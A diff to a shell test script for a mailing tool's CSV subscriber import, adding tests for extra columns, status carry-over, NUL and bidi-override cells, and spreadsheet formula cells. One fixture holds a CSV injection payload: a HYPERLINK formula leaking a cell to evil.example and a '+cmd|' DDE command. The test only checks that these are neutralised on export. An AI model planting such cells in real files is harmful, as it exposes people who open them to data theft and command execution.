@@ -80,7 +80,23 @@ check "  ... nothing stored" -- test "$(db_digest)" = "$before"
 expect_exit 66 "a missing file" -- sam subscriber import /nonexistent.csv
 printf 'emial,org\n' > hdr.csv
 expect_exit 65 "an unknown column" -- sam subscriber import hdr.csv
-check "  ... names the column and the known ones" -- grep -q "'emial' is not a declarer field; known: email" "$T/err"
+check "  ... warns about the unknown column, then says email is missing" -- eval \
+	'grep -q "hdr.csv:1: column 1 .emial. is not a declarer field and is ignored (known: email" "$T/err" && grep -q "must name at least the columns email and org" "$T/err"'
+# Spreadsheets carry columns of their own: ignored, with a warning.
+printf 'No.,email,org,備考\n1,extra@example.jp,株式会社余白,電話で確認済み\n' > extra.csv
+expect_exit 0 "extra columns (No., 備考) are ignored" -- sam subscriber import extra.csv
+check "  ... with one warning each, and the row stored" -- eval \
+	'[ "$(grep -c "is not a declarer field and is ignored" "$T/err")" = 2 ] && grep -q "1 added" "$T/out"'
+# Status carries over to another server, and never re-activates.
+sam subscriber update extra@example.jp --status unsubscribed >/dev/null
+# Cells a spreadsheet would run as formulas: exported as text, read back.
+printf 'email,org,name\nformula@example.jp,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",+cmd|x!A0\n' > formula.csv
+expect_exit 0 "a formula-looking org and name import as text" -- sam subscriber import formula.csv
+# A NUL byte or a bidi override in a cell is refused.
+printf 'email,org\nnul@example.jp,ab\000cd\n' > nul.csv
+expect_exit 65 "a NUL byte in a cell" -- sam subscriber import nul.csv
+printf 'email,org\nbidi@example.jp,\342\200\256evil\n' > bidi.csv
+expect_exit 65 "a bidi override (U+202E) in a name" -- sam subscriber import bidi.csv
 
 # Round trip: export, import into a fresh database, export again: identical.
 expect_exit 0 "export" -- sam subscriber export --out a.csv
@@ -91,7 +107,11 @@ expect_exit 0 "import the export into a fresh database" -- "$SAMAIL" -c fresh.co
 "$SAMAIL" -c fresh.conf subscriber export > b.csv
 check "export -> import -> export is byte-identical" -- cmp a.csv b.csv
 expect_exit 0 "re-import of the export into the source database" -- sam subscriber import a.csv
-check "  ... changes nothing" -- grep -q " 0 added, 0 updated, 4 unchanged" "$T/out"
+check "  ... changes nothing" -- grep -q " 0 added, 0 updated, 6 unchanged" "$T/out"
+check "the status column carried the unsubscribed declarer over as unsubscribed" -- eval \
+	'"$SAMAIL" -c fresh.conf --json subscriber show extra@example.jp | grep -q "\"status\":\"unsubscribed\""'
+check "the formula cells are exported as text ('=...) and came back unchanged" -- eval \
+	'grep -q "\"'"'"'=HYPERLINK" a.csv && "$SAMAIL" -c fresh.conf --json subscriber show formula@example.jp | grep -q "\"org\":\"=HYPERLINK"'
 expect_exit 0 "export in CP932 with Japanese headers and BOM-less" -- sam subscriber export --encoding cp932 --japanese --out j.csv
 check "  ... it reads back" -- eval '"$SAMAIL" -c fresh.conf subscriber import j.csv >/dev/null'
 finish
